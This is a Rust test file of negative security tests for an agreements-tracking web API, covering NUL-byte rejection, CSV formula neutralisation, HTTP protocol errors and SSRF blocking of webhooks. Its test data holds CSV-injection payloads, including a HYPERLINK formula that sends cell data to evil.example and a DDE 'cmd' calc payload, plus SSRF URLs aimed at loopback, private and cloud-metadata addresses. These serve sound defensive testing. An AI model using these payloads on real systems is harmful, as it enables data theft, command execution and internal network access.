//! Negative security tests (#18 items 4, 5, 7): hostile input never makes a 500, exports never
//! carry live formulas, and webhooks never reach the server's own network.

use std::net::TcpListener;

use diesel::RunQueryDsl;
use jalin_tests::{on_both_databases, Db, TestApp};
use serde_json::{json, Value};

use crate::documents::{multipart, pdf, BOUNDARY};

fn partner(app: &TestApp, name: &str) -> String {
    let r = app
        .req("POST", "/v1/partners")
        .json(&json!({"name": name, "kind": "foreign_local_government", "level": "state", "country": "AU"}))
        .send();
    assert_eq!(r.status, 201, "{}", r.body);
    r.json()["id"].as_str().unwrap().to_owned()
}

/// An active legacy agreement of Central Java titled `title`.
fn active_agreement(app: &TestApp, title: &str, partner_id: &str) -> String {
    let body = json!({"region_code": "33", "subtype": "sister_province", "instrument": "mou",
        "partner_ids": [partner_id], "title_id": title, "objects": ["cultural_exchange"],
        "languages": ["id", "en"], "legacy": true, "status": "active",
        "signed_on": "2016-05-10", "expires_on": "2030-01-01"});
    let r = app.req("POST", "/v1/agreements").json(&body).send();
    assert_eq!(r.status, 201, "{}", r.body);
    r.json()["id"].as_str().unwrap().to_owned()
}

/// Asserts an `invalid_text` problem (a NUL byte refused) with its status.
#[track_caller]
fn refused_as_invalid_text(r: &jalin_tests::Resp, status: u16) -> Value {
    let p = r.problem(status, "invalid_text");
    assert!(
        !r.body.contains("\\u0000"),
        "the refusal does not echo the NUL byte: {}",
        r.body
    );
    p
}

/// Every CSV cell of `body` (header row included), parsed back.
fn csv_cells(body: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tTab=1",
    "\rCR=1",
];

/// No cell a spreadsheet would read as a formula: every cell starting with `=`, `+`, `-`, `@`,
/// TAB or CR is neutralised with a leading `'` (unless it is a plain number).
#[track_caller]
fn assert_no_formula(cells: &[Vec<String>]) {
    for row in cells {
        for cell in row {
            if let Some(first) = cell.chars().next() {
                let number = cell.parse::<f64>().is_ok();
                assert!(
                    number || !matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r'),
                    "a live formula cell: {cell:?}"
                );
            }
        }
    }
}

on_both_databases! {
    /// #18 item 4: a NUL byte in a JSON string (anonymous login included), a query parameter, a
    /// path or a multipart part is refused as `invalid_text` — never a 500 (PostgreSQL cannot
    /// store it) and never stored (SQLite could).
    fn nul_bytes_are_refused_as_invalid_text_wherever_they_come_from(app) {
        let r = app.req("POST", "/v1/auth/login").anonymous()
            .json(&json!({"username": "ad\u{0}min", "password": "x"})).send();
        let p = refused_as_invalid_text(&r, 422);
        assert_eq!(p["errors"][0]["pointer"], "/username");
        assert_eq!(p["errors"][0]["code"], "invalid_text");

        // Deep in a body, and in a key.
        let pid = partner(app, "Queensland NUL");
        let body = json!({"region_code": "33", "subtype": "sister_province", "instrument": "mou",
            "partner_ids": [pid], "title_id": "MoU", "objects": ["cultural_exchange"], "languages": ["id", "en\u{0}"]});
        let r = app.req("POST", "/v1/agreements").json(&body).send();
        assert_eq!(refused_as_invalid_text(&r, 422)["errors"][0]["pointer"], "/languages/1");
        let r = app.req("POST", "/v1/partners")
            .json(&json!({"name": "Qld", "kind": "foreign_local_government", "level": "state", "country": "AU", "x\u{0}": 1})).send();
        refused_as_invalid_text(&r, 422);

        // A query parameter, percent-encoded or in a form body.
        let r = app.get("/v1/agreements?q=jateng%00");
        assert_eq!(refused_as_invalid_text(&r, 400)["errors"][0]["parameter"], "q");
        refused_as_invalid_text(&app.get("/v1/partners?q%00=1"), 400);
        // A path segment.
        refused_as_invalid_text(&app.get("/v1/agreements/abc%00def"), 400);
        refused_as_invalid_text(&app.req("GET", "/v1/public/agreements/x%00").anonymous().send(), 400);

        // A multipart text part and a file name.
        let a = active_agreement(app, "MoU NUL", &pid);
        let upload = |parts: &[(&str, Option<&str>, &[u8])]| {
            app.req("POST", &format!("/v1/agreements/{a}/documents"))
                .body(&format!("multipart/form-data; boundary={BOUNDARY}"), multipart(parts)).send()
        };
        let content = pdf();
        let r = upload(&[("role", None, b"signed_text\0"), ("language", None, b"id"), ("file", Some("a.pdf"), &content)]);
        assert_eq!(refused_as_invalid_text(&r, 422)["errors"][0]["pointer"], "/role");
        // In a part's header (the file name) actix's multipart parser refuses it first.
        let r = upload(&[("role", None, b"signed_text"), ("language", None, b"id"), ("file", Some("a\0.pdf"), &content)]);
        r.problem(400, "malformed_multipart");

        // Nothing was stored, and the server still answers.
        assert_eq!(app.get_ok(&format!("/v1/agreements/{a}/documents"))["items"].as_array().unwrap().len(), 0);
        assert_eq!(app.get("/health/ready").status, 200);
    }

    /// #18 item 4: concurrent creations racing for one unique key get 409s, never a 500: the
    /// database's uniqueness error is mapped centrally (R22, one annual report per region and
    /// fiscal year).
    fn a_uniqueness_race_answers_409_not_500(app) with [("JALIN_DB_POOL_SIZE", "16"), ("JALIN_WORKERS", "4")] {
        let (_, province) = app.user("biro-race", "province_officer", Some("33"));
        let statuses: Vec<(u16, String)> = std::thread::scope(|s| {
            let handles: Vec<_> = (0..30)
                .map(|_| {
                    let province = province.clone();
                    s.spawn(move || {
                        let r = app.req("POST", "/v1/annual-reports").bearer(&province)
                            .json(&json!({"region_code": "33", "fiscal_year": 2024})).send();
                        (r.status, r.body)
                    })
                })
                .collect();
            handles.into_iter().map(|h| h.join().unwrap()).collect()
        });
        assert_eq!(statuses.iter().filter(|(s, _)| *s == 201).count(), 1, "{statuses:?}");
        for (status, body) in &statuses {
            assert!(*status == 201 || *status == 409, "{status}: {body}");
        }
        assert_eq!(app.get_all("/v1/annual-reports?fiscal_year=2024").len(), 1);
    }

    /// #18 item 4: a legacy row dated year 1 (input refuses it; old data may hold it) does not
    /// fail the export of its whole scope: the odd date is written as text.
    fn an_odd_legacy_date_does_not_fail_the_export(app) {
        let pid = partner(app, "Queensland year 1");
        let odd = active_agreement(app, "Kerja sama tahun satu", &pid);
        let fine = active_agreement(app, "Kerja sama biasa", &pid);
        let pool = app.pool();
        let mut conn = pool.get().unwrap();
        let set = match app.db {
            Db::Sqlite => "UPDATE agreements SET signed_on = '0001-01-01', effective_from = '0001-01-01' WHERE id = '{id}'",
            Db::Postgres => "UPDATE agreements SET signed_on = DATE '0001-01-01', effective_from = DATE '0001-01-01' WHERE id = '{id}'",
        };
        diesel::sql_query(set.replace("{id}", &odd)).execute(&mut conn).unwrap();

        let r = app.get("/v1/agreements/export?format=xlsx&lang=en&labels=codes");
        assert_eq!(r.status, 200, "{}", r.body);
        let mut book: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(r.body_bytes().to_vec())).unwrap();
        let sheet = calamine::Reader::worksheet_range(&mut book, "Agreements").unwrap();
        let rows: Vec<Vec<String>> = sheet.rows().map(|row| row.iter().map(|c| c.to_string()).collect()).collect();
        assert_eq!(rows.len(), 4, "a title, a header and both agreements");
        let odd_row = rows.iter().find(|r| r[7] == "Kerja sama tahun satu").expect("the odd row is exported");
        assert_eq!(odd_row[14], "0001-01-01", "the odd date as text");
        assert!(rows.iter().any(|r| r[7] == "Kerja sama biasa"));

        let csv = app.get("/v1/agreements/export?format=csv");
        assert_eq!(csv.status, 200, "{}", csv.body);
        assert!(csv.body.contains("0001-01-01"));
        // The record and the lists that show it do not fail either.
        assert_eq!(app.get(&format!("/v1/agreements/{odd}")).status, 200);
        assert_eq!(app.get(&format!("/v1/agreements/{fine}")).status, 200);
    }

    /// #18 item 5: text that a spreadsheet would run as a formula is neutralised (OWASP: a
    /// leading `'`) in the authenticated export and in the unauthenticated public CSV feed; the
    /// XLSX export keeps it as a string cell, verbatim.
    fn csv_cells_never_carry_live_formulas(app) {
        let pid = partner(app, "=HYPERLINK(\"http://evil.example\",\"Mitra\")");
        for f in FORMULAS {
            active_agreement(app, f, &pid);
        }
        let export = app.get("/v1/agreements/export?format=csv&labels=codes");
        assert_eq!(export.status, 200, "{}", export.body);
        let cells = csv_cells(&export.body);
        assert_no_formula(&cells);
        let titles: Vec<&str> = cells.iter().skip(1).map(|r| r[7].as_str()).collect();
        for f in FORMULAS {
            // Titles are stored trimmed: a leading TAB or CR does not survive input (the unit
            // tests of csv_safe cover them).
            let stored = f.trim();
            let expected = match stored.starts_with(['=', '+', '-', '@']) {
                true => format!("'{stored}"),
                false => stored.to_owned(),
            };
            assert!(titles.contains(&expected.as_str()), "{f:?} neutralised, kept otherwise: {titles:?}");
        }
        assert!(cells.iter().skip(1).all(|r| r[5].starts_with("'=HYPERLINK")), "the partner's name too");

        let feed = app.req("GET", "/v1/public/agreements?format=csv&limit=100").anonymous().send();
        assert_eq!(feed.status, 200, "{}", feed.body);
        let cells = csv_cells(&feed.body);
        assert_eq!(cells.len(), 1 + FORMULAS.len());
        assert_no_formula(&cells);
        assert!(cells.iter().skip(1).any(|r| r.iter().any(|c| c.starts_with("'=HYPERLINK"))));

        // XLSX: string cells, as written.
        let r = app.get("/v1/agreements/export?format=xlsx&lang=en&labels=codes");
        assert_eq!(r.status, 200);
        let mut book: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(r.body_bytes().to_vec())).unwrap();
        let sheet = calamine::Reader::worksheet_range(&mut book, "Agreements").unwrap();
        let mut found = 0;
        for row in sheet.rows().skip(2) {
            assert!(matches!(row[7], calamine::Data::String(_)), "{:?}", row[7]);
            if FORMULAS.iter().any(|f| row[7] == f.trim()) {
                found += 1;
            }
        }
        assert_eq!(found, FORMULAS.len());
        let formulas = calamine::Reader::worksheet_formula(&mut book, "Agreements").unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no formula cells");
    }
}

/// The status line actix answers a raw request with.
fn raw_status(app: &TestApp, request: &[u8]) -> String {
    use std::io::{Read, Write};
    let addr = app.base.trim_start_matches("http://");
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(5)))
        .unwrap();
    let _ = s.write_all(request);
    let mut buf = vec![0u8; 256];
    let n = s.read(&mut buf).unwrap_or(0);
    String::from_utf8_lossy(&buf[..n])
        .lines()
        .next()
        .unwrap_or("")
        .to_owned()
}

on_both_databases! {
    /// #18 item 4: requests actix's HTTP/1 parser refuses (a bad request line, a NUL byte in a
    /// header, an oversized URL or too many headers) are 400 or 431, never a 5xx. actix answers
    /// them itself, before any middleware, so they carry no problem body (README, Security).
    fn protocol_errors_are_4xx_never_5xx(app) {
        let bad_line = raw_status(app, b"GARBAGE\r\n\r\n");
        assert!(bad_line.starts_with("HTTP/1.1 400"), "{bad_line}");
        let nul = raw_status(app, b"GET /health/live HTTP/1.1\r\nHost: x\r\nX-A: a\x00b\r\n\r\n");
        assert!(nul.starts_with("HTTP/1.1 400"), "{nul}");
        let mut long = b"GET /health/live?x=".to_vec();
        long.extend(std::iter::repeat_n(b'a', 300_000));
        long.extend(b" HTTP/1.1\r\nHost: x\r\n\r\n");
        let long = raw_status(app, &long);
        assert!(long.starts_with("HTTP/1.1 431"), "{long}");
        let mut many = b"GET /health/live HTTP/1.1\r\nHost: x\r\n".to_vec();
        for i in 0..200 {
            many.extend(format!("X-H{i}: v\r\n").as_bytes());
        }
        many.extend(b"\r\n");
        let many = raw_status(app, &many);
        assert!(many.starts_with("HTTP/1.1 431"), "{many}");
        assert_eq!(app.get("/health/live").status, 200, "the server still answers");
    }
}

/// A TCP port on 127.0.0.1 that is listening (a local service a blind port scan would find).
fn local_listener() -> (TcpListener, u16) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    (l, port)
}

on_both_databases! {
    /// #18 item 7: a webhook URL that is or resolves to a loopback, private, link-local,
    /// shared (CGNAT), multicast or metadata address is refused (422 `webhook_target_forbidden`),
    /// on creation and on change, without any detail about the network.
    fn webhook_endpoints_to_internal_addresses_are_refused(app) with [("JALIN_WEBHOOK_ALLOW_PRIVATE", "false")] {
        let settings = app.get_ok("/v1/settings");
        let allow = settings["items"].as_array().unwrap().iter()
            .find(|s| s["key"] == "integrations.webhook_allow_private").expect("shown in settings");
        assert_eq!((&allow["value"], &allow["variable"]), (&json!(false), &json!("JALIN_WEBHOOK_ALLOW_PRIVATE")));
        let (_l, port) = local_listener();
        for url in [
            format!("http://127.0.0.1:{port}/hook"),
            format!("http://localhost:{port}/hook"),
            "http://10.1.2.3/hook".into(),
            "http://172.16.0.1/hook".into(),
            "http://192.168.1.1/hook".into(),
            "http://169.254.169.254/latest/meta-data/".into(),
            "http://100.64.0.1/hook".into(),
            "http://0.0.0.0/hook".into(),
            "http://224.0.0.1/hook".into(),
            "http://[::1]/hook".into(),
            "http://[fd00::1]/hook".into(),
            "http://[fe80::1]/hook".into(),
            "http://[::ffff:127.0.0.1]/hook".into(),
            "http://[::ffff:169.254.169.254]/hook".into(),
            "http://2130706433/hook".into(),
            "http://0x7f.1/hook".into(),
        ] {
            let r = app.req("POST", "/v1/webhook-endpoints")
                .json(&json!({"url": url, "event_types": ["agreement.*"]})).send();
            let p = r.problem(422, "webhook_target_forbidden");
            assert_eq!(p["errors"][0]["pointer"], "/url", "{url}");
            assert!(!r.body.contains("refused") && !r.body.contains(&port.to_string()), "no network details: {}", r.body);
        }
        // A public address is accepted; changing it to an internal one is refused.
        let r = app.req("POST", "/v1/webhook-endpoints")
            .json(&json!({"url": "https://93.184.215.14/hook", "event_types": ["agreement.*"]})).send();
        assert_eq!(r.status, 201, "{}", r.body);
        let id = r.json()["id"].as_str().unwrap().to_owned();
        let tag = r.header("etag").unwrap().to_owned();
        app.req("PATCH", &format!("/v1/webhook-endpoints/{id}")).header("If-Match", &tag)
            .json(&json!({"url": "http://[::ffff:a9fe:a9fe]/"})).send()
            .problem(422, "webhook_target_forbidden");
        // A host name that does not resolve is refused alike, without the resolver's words.
        let r = app.req("POST", "/v1/webhook-endpoints")
            .json(&json!({"url": "https://no-such-host.invalid/hook", "event_types": ["agreement.*"]})).send();
        r.problem(422, "webhook_target_forbidden");
    }

    /// #18 item 7: the target is checked again at delivery (DNS may have changed since, or the
    /// row may predate the check): the delivery fails with a generic reason, nothing is sent,
    /// and the reason tells nothing about the network.
    fn webhook_delivery_to_an_internal_address_fails_without_details(app) with [("JALIN_WEBHOOK_ALLOW_PRIVATE", "false")] {
        let r = app.req("POST", "/v1/webhook-endpoints")
            .json(&json!({"url": "https://93.184.215.14/hook", "event_types": ["agreement.*"]})).send();
        assert_eq!(r.status, 201, "{}", r.body);
        let id = r.json()["id"].as_str().unwrap().to_owned();
        // As if DNS now answered with a loopback address: the row points at a local listener.
        let (listener, port) = local_listener();
        listener.set_nonblocking(true).unwrap();
        let pool = app.pool();
        let mut conn = pool.get().unwrap();
        diesel::sql_query(format!("UPDATE webhook_endpoints SET url = 'http://127.0.0.1:{port}/hook' WHERE id = '{id}'"))
            .execute(&mut conn).unwrap();
        let pid = partner(app, "Queensland SSRF");
        active_agreement(app, "Kerja sama SSRF", &pid);
        let report = jalin_api::integrations::deliver_due(&mut conn, &app.state().config.integrations, chrono::Utc::now().naive_utc()).unwrap();
        assert_eq!(report.delivered, 0);
        assert!(listener.accept().is_err(), "nothing connected to the internal address");
        let failures: Vec<(Option<String>,)> = {
            #[derive(diesel::QueryableByName)]
            struct Row {
                #[diesel(sql_type = diesel::sql_types::Nullable<diesel::sql_types::Text>)]
                last_error: Option<String>,
            }
            diesel::sql_query(format!("SELECT last_error FROM outbox WHERE target = 'webhook:{id}'"))
                .load::<Row>(&mut conn).unwrap().into_iter().map(|r| (r.last_error,)).collect()
        };
        assert!(!failures.is_empty());
        for (e,) in failures {
            let e = e.unwrap_or_default();
            assert!(e.contains("not allowed"), "a generic reason: {e}");
            assert!(!e.contains(&port.to_string()) && !e.contains("127.0.0.1"), "no network details: {e}");
        }
    }
}
